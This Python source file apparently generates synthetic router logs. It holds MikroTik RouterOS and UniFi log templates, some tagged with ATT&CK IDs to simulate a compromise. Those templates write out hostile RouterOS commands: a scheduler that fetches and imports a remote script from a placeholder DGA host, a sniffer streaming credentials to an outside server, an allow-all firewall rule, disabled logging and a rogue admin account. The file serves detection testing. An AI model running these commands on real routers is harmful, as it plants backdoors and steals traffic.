"""MikroTik routers and UniFi gateways, switches and access points."""

from generator.families.network.product_story import catalogue_in_parts

_mikrotik = ("|{msg}", "=<30>{host} {msg}", "={time} {msg}", "=<134>1 {iso} {host} RouterOS - - - {msg}", "={plain} {host} {msg}")

catalogue_in_parts("gateways/mikrotik", _mikrotik, r"""
BS# system,error,critical login failure for user {adm} from {wan} via <<ssh|winbox|web|telnet|api>>
~ system,info,account user {adm} logged in from {wan} via winbox
PS# system,error,critical login failure for user {guest} from {wan} via ssh
BF# l2tp,ppp,error <{n}>: user {guest} authentication failed
PT+@T1136.001 system,info user {word} added by winbox:{adm}@{wan}/action:{n} (/user add address="" disabled=no group=full name={word})
PT@T1053 system,info new scheduled script added by {adm}@{wan} (*{n} = /system scheduler add interval=30s name={word} on-event="/tool fetch url=http://{dga}:31416/poll/{uuid} mode=http dst-path={word}.rsc;/import {word}.rsc")
+ fetch,info file "{word}.rsc" downloaded
C2@T1090 system,info socks configuration changed by {adm}@{wan} (/ip socks set enabled=yes port={port} version=5)
FW+@T1562.004 system,info filter rule <<added|moved|removed>> by ssh:{adm}@{wan} (/ip firewall filter add action=accept chain=input src-address=0.0.0.0/0 place-before=0)
C2@T1565.002 system,info dns changed by {adm}@{wan} (/ip dns set allow-remote-requests=yes servers={wan2})
DE@T1562.002 system,info log <<rule removed|action removed>> by winbox:{adm}@{wan} (/system logging disable 0,1,2,3)
EX@T1040 system,info sniffer configuration changed by {adm}@{wan} (/tool sniffer set streaming-enabled=yes streaming-server={wan2} filter-port=ftp,pop3,smb)
PO# firewall,info SCAN: in:ether1 out:(unknown 0), connection-state:new src-mac {mac}, proto TCP (SYN), {wan}:{port}->{wan2}:<<21|22|23|80|443|445|3306|8291|8728>>, len 40
""", r"""
LO system,info,account user {adm} logged in from {any} via <<winbox|ssh|web|api|local>>
LO system,info,account user {adm} logged out from {any} via <<winbox|ssh|web>>
MP. system,error,critical login failure for user {adm} from {lan} via <<winbox|ssh|web>>
AD system,info <<filter|nat|mangle>> rule <<added|changed|moved>> by <<winbox|ssh>>:{adm}@{lan} (/ip firewall filter add action=<<drop|accept>> chain=<<forward|input>> comment="{word}" src-address={lan2})
AD system,info <<dhcp lease added|route changed|address changed|dns changed|device changed|interface list member added|item changed|queue changed>> by <<winbox|ssh>>:{adm}@{any}
AD system,info user {user} added by winbox:{adm}@{lan} (/user add group=read name={user})
AD system,info new scheduled script added by {adm}@{lan} (*{n} = /system scheduler add interval=1d name=backup on-event="/system backup save name={host};/export file={host}")
AD system,info dns changed by {adm}@{lan} (/ip dns set allow-remote-requests=yes servers=<<1.1.1.1,9.9.9.9|{lan2}|8.8.8.8>>)
AD system,info log <<rule|action>> <<added|changed>> by winbox:{adm}@{lan} (/system logging add action=remote topics=info)
BN firewall,info DROP-<<WAN|input|INVALID>> input: in:<<ether1|pppoe-out1>> out:(unknown 0), connection-state:<<new|invalid>> src-mac {mac}, proto TCP (SYN), {noise}:{port}->{wan2}:<<23|22|445|8291|3389>>, len 40
BN firewall,info forward: in:bridge out:ether1, connection-state:invalid proto TCP (<<ACK,FIN|RST|ACK>>), {lan}:{port}->{noise}:443, len 52
NT firewall,info forward: in:bridge out:pppoe-out1, connection-state:established,snat proto <<UDP|TCP (SYN)>>, {lan}:{port}->{wan}:<<443|53>>, NAT ({lan}:{port}->{wan2}:{port})->{wan}:443, len {n}
NS dhcp,info <<defconf|dhcp1|guest>> <<assigned|deassigned>> {lan} <<for|from>> {mac} {pc}
NS dhcp,warning,error dhcp1: <<offering lease {lan} for {mac} without success|pool is empty>>
NS pppoe,ppp,info pppoe-out1: <<initializing...|authenticated|connected|terminating... - hungup|disconnected>>
NS l2tp,ppp,info,account {user} logged <<in|out>>, {lan} from {wan}
NS ipsec,error {wan} <<failed to get valid proposal.|failed to pre-process ph1 packet (side: 1, status 1).|phase1 negotiation failed due to time up {wan2}[500]<=>{wan}[500] {hex}>>
NS ipsec,info <<purging ISAKMP-SA {wan2}[500]<=>{wan}[500] spi={hex}|killing ike2 SA: {word} {wan2}[4500]-{wan}[4500]|ISAKMP-SA established {wan2}[500]-{wan}[500] spi:{hex}>>
SY interface,info <<ether{few}|sfp1|wlan1>> link <<up (speed 1G, full duplex)|down>>
SY wireless,info {mac}@wlan{few}: <<connected, signal strength -{pct}|disconnected, extensive data loss|disconnected, received deauth: sending station leaving (3)|reassociating>>
SY system,<<error,critical|info>> router was rebooted without proper shutdown<<, probably power outage|>>
SY system,info <<verified routeros-7.{n}.npk|installed routeros-7.{n}|router rebooted by {adm}@{lan}|ntp change time>>
BA system,info,account user {service} logged in from {lan} via ssh
MO snmp,warning timeout while waiting for program {n}
""")

_unifi = ("|{msg}", "=<{n}>{host} {msg}", '=<4>{ctime} {host} {msg}')

catalogue_in_parts("gateways/unifi", _unifi, r"""
PO# kernel>> [<<WAN_LOCAL-default-D|WAN_IN-2001-D>>] DESCR="{rule}" IN=eth8 OUT= MAC={mac}:{mac2}:08:00 SRC={wan} DST={wan2} LEN=44 TOS=00 PREC=0x00 TTL={n} ID={id} PROTO=TCP SPT={port} DPT=<<21|22|23|80|443|445|1433|3306|3389|8080>> SEQ={id} ACK=0 WINDOW=1024 SYN URGP=0
BS# dropbear>> Bad password attempt for '{adm}' from {wan}:{port}
~ dropbear>> Password auth succeeded for '{adm}' from {wan}:{port}
RX CEF:0|Ubiquiti|UniFi Network|8.4.{n}|201|Threat Detected and Blocked|7|msg=A network intrusion attempt from {wan} to {lan} has been detected and <<blocked|logged>>. signature=ET EXPLOIT <<Apache log4j RCE Attempt (tcp ldap) (CVE-2021-44228)|Realtek SDK Command Execution (CVE-2021-35394)|Zyxel ZyWALL OS Command Injection>> src={wan} dst={lan} proto=TCP
C2 CEF:0|Ubiquiti|UniFi Network|8.4.{n}|201|Threat Detected and Blocked|9|msg=A network intrusion attempt from {lan} to {wan} has been detected and <<blocked|logged>>. signature=ET MALWARE <<Cobalt Strike Beacon Observed|AsyncRAT CnC Checkin|Win32/Lumma Stealer CnC Host Checkin>> UNIFIclientAlias={pc} src={lan} dst={wan} dpt=443
PT+@T1136.001 CEF:0|Ubiquiti|UniFi Network|8.4.{n}|546|Admin Added|4|msg={adm} added admin {word} with role Super Admin UNIFIadmin={adm} UNIFIaccessMethod=web src={wan}
AT~@T1078,T1133 CEF:0|Ubiquiti|UniFi Network|8.4.{n}|544|Admin Accessed UniFi Network|1|UNIFIcategory=System UNIFIaccessMethod=web UNIFIadmin={adm} src={wan} msg={adm} accessed UniFi Network using the web. Source IP: {wan}
+ CEF:0|Ubiquiti|UniFi Network|8.4.{n}|545|Admin Made Config Changes|2|UNIFIadmin={adm} src={wan} UNIFIsettingsSection=Settings > Security msg=Intrusion Prevention was disabled and port forward 3389 to {lan} from any was created
AP@T1557 hostapd>> rogue AP detected: ssid={ssid} bssid={mac} mimics own ssid with other security, clients deauthenticated {many}
MW "{HEX},U7-Pro-6.6.77": mcad[{n}]: executing /tmp/.{word} downloaded from http://{wan}/{word}.mips
""", r"""
BN kernel>> [<<WAN_LOCAL-default-D|WAN_IN-2001-D|LAN_IN-4000-D>>] DESCR="{rule}" IN=<<eth8|br0>> OUT= MAC={mac}:{mac2}:08:00 SRC={noise} DST={wan2} LEN=40 TOS=00 PREC=0x00 TTL={n} ID={id} PROTO=<<TCP|UDP>> SPT={port} DPT=<<23|445|8080|5060|3389>> WINDOW=1024 SYN URGP=0
NT kernel>> [<<LAN_OUT-2002-A|WAN_OUT-3001-A>>] IN=br0 OUT=eth8 SRC={lan} DST={wan} LEN=60 TTL=63 PROTO=TCP SPT={port} DPT=443 SYN
BN CEF:0|Ubiquiti|UniFi Network|8.4.{n}|201|Threat Detected and Blocked|5|msg=A network intrusion attempt from {any} to {any2} has been detected and blocked. signature=<<ET INFO Spotify P2P Client|ET DROP Spamhaus DROP Listed Traffic Inbound group {n}|ET DNS Query for .to TLD|ET CINS Active Threat Intelligence Poor Reputation IP group {n}>> proto=<<TCP|UDP>>
BN CEF:0|Ubiquiti|UniFi Network|8.4.{n}|203|Blocked by Firewall|3|msg={pc} was blocked from accessing {ext} by {rule} src={lan} dst={noise} dpt=443 UNIFIcategory=<<Content Filtering|Region Blocking|Ad Blocking>>
LO CEF:0|Ubiquiti|UniFi Network|8.4.{n}|544|Admin Accessed UniFi Network|1|UNIFIcategory=System UNIFIaccessMethod=<<web|mobile>> UNIFIadmin={adm} src={any} msg={adm} accessed UniFi Network using the web. Source IP: {any}
AD CEF:0|Ubiquiti|UniFi Network|8.4.{n}|545|Admin Made Config Changes|2|UNIFIadmin={adm} src={any} UNIFIsettingsSection=<<WiFi|Networks|Port Profiles|Settings > Security>> msg={adm} <<changed the WiFi name to {ssid}|created VLAN {n}|enabled Intrusion Prevention|created port forward 443 to {lan} from any>>
AD CEF:0|Ubiquiti|UniFi Network|8.4.{n}|546|Admin Added|4|msg={adm} added admin {user} with role View Only UNIFIadmin={adm} UNIFIaccessMethod=web src={lan}
SY CEF:0|Ubiquiti|UniFi Network|8.4.{n}|<<400|401>>|WiFi Client <<Connected|Disconnected>>|1|UNIFIcategory=Monitoring UNIFIhost={host} UNIFIclientAlias={pc} UNIFIclientMac={mac} UNIFIwifiName={ssid} UNIFIWiFiRssi=-{pct} msg={pc} connected to {ssid}
SY CEF:0|Ubiquiti|UniFi Network|8.4.{n}|<<108|111|113>>|<<Device Offline|Device Reconnected|WAN Failover|PoE Port Overload>>|3|msg=<<AP {word} lost contact|Switch {word} is online again|Internet connection moved to WAN2>>
SY hostapd>> <<ath0|wifi1ap3>>: STA {mac} <<IEEE 802.11: associated|IEEE 802.11: disassociated|WPA: pairwise key handshake completed (RSN)|IEEE 802.11: deauthenticated due to inactivity (timer DEAUTH/REMOVE)|RADIUS: starting accounting session {HEX}>>
MP. hostapd>> ath0: STA {mac} <<IEEE 802.1X: authentication failed - EAP type: 25 (PEAP)|WPA: received EAPOL-Key 2/4 Pairwise with unexpected replay counter|WPA: invalid MIC in msg 2/4 of 4-Way Handshake>>
SY stahtd>> [STA-TRACKER].stahtd_dump_event(): {"message_type":"STA_ASSOC_TRACKER","mac":"{mac}","vap":"ath0","event_type":"<<success|soft failure>>","assoc_status":"0","dns_resp_seen":"yes","avg_rssi":"-{pct}"}
SY switch>> TRAPMGR: <<Link Up: 0/{n}|Link Down: 0/{n}|Spanning Tree Topology Change: 0, Unit: 1>>
LO dropbear>> Password auth succeeded for '{adm}' from {lan}:{port}
MP. dropbear>> Bad password attempt for '{adm}' from {lan}:{port}
NS dnsmasq-dhcp>> DHCPACK(br0) {lan} {mac} {pc}
UP mcad>> fwupdate: image downloaded from http://{lan}:8080/dl/firmware to /tmp/fwupdate.bin, checksum ok
UP mcad>> ace_reporter.reporter_set_managed(): <<connected to the controller|upgrade to 6.6.{n} from http://{lan}:8080/dl/firmware|inform failed #1 (last inform: 31 seconds ago), rc=28>>
NS charon>> {n}[IKE] <<sending DPD request|CHILD_SA site-{word}{few} established with SPIs {hex}_i {hex}_o|giving up after 5 retransmits>>
BA unifi-core>> backup scheduler: auto backup of application network done in {few} s
""")
